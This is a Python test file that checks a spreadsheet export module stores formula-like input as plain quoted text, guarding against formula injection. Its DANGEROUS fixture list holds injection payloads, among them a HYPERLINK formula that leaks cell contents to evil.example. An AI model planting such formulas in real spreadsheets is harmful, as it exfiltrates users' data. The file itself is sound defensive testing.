"""The .xlsx writer never writes a formula from data."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import openpyxl

from vigil.core.xlsx import XLSX_TYPE, Sheet, workbook_bytes, xlsx_response

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def test_formula_like_text_round_trips_as_text_not_a_formula() -> None:
    data = workbook_bytes([Sheet("Danh sách", ["Giá trị", "Số"], [[v, 1] for v in DANGEROUS])])
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert ws is not None
    for row, value in enumerate(DANGEROUS, start=2):
        cell = ws.cell(row=row, column=1)
        # openpyxl writes through lxml (a dependency since the document builders), which
        # escapes a lone CR, so the text comes back exactly as typed.
        assert cell.value == value
        assert cell.data_type == "s"
        assert cell.quotePrefix is True
    assert ws.cell(row=2, column=2).value == 1


def test_header_is_bold_and_frozen_and_columns_have_widths() -> None:
    data = workbook_bytes(
        [Sheet("T", ["Tên", "Ngày"], [["Sở Công Thương tỉnh Quảng Ninh", dt.date(2026, 1, 5)]])]
    )
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert ws is not None
    assert ws["A1"].font.bold and ws["B1"].font.bold
    assert ws.freeze_panes == "A2"
    assert ws.column_dimensions["A"].width >= len("Sở Công Thương tỉnh Quảng Ninh")
    assert ws["B2"].number_format == "dd/mm/yyyy"
    assert ws["A2"].quotePrefix is False  # ordinary text stays ordinary


def test_the_response_helper_sets_a_safe_download() -> None:
    response = xlsx_response("Danh bạ liên lạc", [Sheet("T", ["a"], [["=1"]])])
    assert response["Content-Type"] == XLSX_TYPE
    assert (
        "filename*=UTF-8''Danh%20b%E1%BA%A1%20li%C3%AAn%20l%E1%BA%A1c.xlsx"
        in (response["Content-Disposition"])
    )
    assert response["X-Content-Type-Options"] == "nosniff"
